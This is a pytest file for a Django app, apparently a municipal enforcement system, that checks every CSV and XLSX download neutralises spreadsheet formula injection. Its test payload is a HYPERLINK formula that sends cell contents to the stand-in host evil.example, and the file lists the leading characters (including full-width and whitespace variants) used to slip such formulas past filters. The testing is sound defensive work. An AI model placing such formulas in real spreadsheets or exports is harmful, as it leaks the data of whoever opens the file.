"""Every CSV and XLSX download defuses text a spreadsheet would run as a formula.

Each export endpoint gets a record whose text starts with a formula sign (ASCII,
full-width, after spaces); the file is opened: in CSV the cell starts with an
apostrophe, in XLSX it is a text cell (never a formula) with Excel's quote prefix
and exactly the typed text, while numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.exports import is_formula_like

pytestmark = pytest.mark.django_db

MARK = 'HYPERLINK("http://evil.example/?d="&A1,"klik")'
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="]


@pytest.fixture(params=STARTS, ids=[repr(s) for s in STARTS])
def payload(request):
    return request.param + MARK


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    # Dutch Excel CSV uses semicolons; the council report's open data commas.
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_csv_defused(content: bytes, payload: str, *, exact: bool = True) -> None:
    """Each cell holding the payload is defused; ``exact=False`` where the export puts
    words before it (the access log's record column: "Melding <reference>")."""
    cells = [c for c in csv_cells(content) if MARK in c]
    assert cells, "the payload is in the export"
    for cell in cells:
        # Some pages strip what is typed (a leading tab or line break goes); what is
        # left must still be defused when it is formula-like.
        if cell.startswith("'"):
            assert cell[1:] in (payload, payload.strip())
        elif exact:
            assert cell == payload.strip() and not is_formula_like(cell), cells
        else:
            assert payload.strip() in cell and not is_formula_like(cell), cells


def assert_xlsx_defused(content: bytes, payload: str) -> list:
    workbook = load_workbook(io.BytesIO(content))
    cells = [c for ws in workbook for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hits = [c for c in cells if isinstance(c.value, str) and MARK in c.value]
    assert hits, "the payload is in the export"
    for cell in hits:
        assert cell.value in (payload, payload.strip()) and cell.data_type == "s"
        assert cell.quotePrefix or not is_formula_like(cell.value)
    return cells


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_cases_export(payload, client_for, policy_officer):
    from cases.tests.factories import CaseFactory

    CaseFactory(title=payload)
    response = client_for(policy_officer).get(reverse("cases:export"))
    assert response.status_code == 200
    assert_csv_defused(_body(response), payload)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_incident_export(payload, fmt, client_for, policy_officer):
    from enforcement.tests.factories import IncidentFactory

    IncidentFactory(description=payload, address=payload, latitude=52.37, longitude=4.95)
    response = client_for(policy_officer).get(reverse("enforcement:incident_export", args=[fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        assert_csv_defused(_body(response), payload)
    else:
        cells = assert_xlsx_defused(_body(response), payload)
        assert 52.37 in [c.value for c in cells if c.data_type == "n"]  # still a number


def test_access_log_export(payload, client_for, functional_admin):
    from accounts.tests.factories import AccessLogEntryFactory

    AccessLogEntryFactory(username=payload[:150], object_repr=payload)
    response = client_for(functional_admin).get(reverse("accounts:access_log_export"))
    assert response.status_code == 200
    assert_csv_defused(_body(response), payload, exact=False)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_council_report_downloads(payload, fmt, client_for, council_member, policy_officer):
    from enforcement.tests.factories import IncidentFactory, ThemeFactory
    from reports.periods import Period
    from reports.services import report_build, report_publish, report_update_text

    theme = ThemeFactory(name=payload)
    for _ in range(6):
        IncidentFactory(
            theme=theme,
            occurred_at=timezone.make_aware(dt.datetime(2026, 2, 10, 12)),
        )
    report = report_build(period=Period(2026, 1), actor=policy_officer)
    report_update_text(
        report_id=report.pk, actor=policy_officer, introduction=payload, change_note=payload
    )
    report = report_publish(report_id=report.pk, actor=policy_officer)
    response = client_for(council_member).get(
        reverse("reports:portal_download", args=[report.pk, fmt])
    )
    assert response.status_code == 200
    if fmt == "csv":
        assert_csv_defused(_body(response), payload)
    else:
        cells = assert_xlsx_defused(_body(response), payload)
        assert 6 in [c.value for c in cells if c.data_type == "n"]  # counts stay numbers


TESTED_EXPORTS = {
    "cases:export",
    "enforcement:incident_export",
    "accounts:access_log_export",
    "reports:portal_download",
    "enforcement:reference_import_example",  # fixed example rows, through the same writer
}
# Downloads that hand back a stored upload as it was uploaded, not a generated sheet.
NOT_GENERATED = {"cases:document_download"}


def _names(patterns, prefix=""):
    for p in patterns:
        if isinstance(p, URLResolver):
            ns = f"{prefix}{p.namespace}:" if p.namespace else prefix
            yield from _names(p.url_patterns, ns)
        elif isinstance(p, URLPattern) and p.name:
            yield prefix + p.name, str(p.pattern)


def test_every_download_url_is_in_this_table():
    """A new CSV/XLSX endpoint must be added above (and so be tested)."""
    downloads = {
        name
        for name, route in _names(get_resolver().url_patterns)
        if any(word in route or word in name for word in ("export", "csv", "xlsx", "download"))
        or name.endswith(("_example",))
    }
    assert downloads - TESTED_EXPORTS - NOT_GENERATED == set()
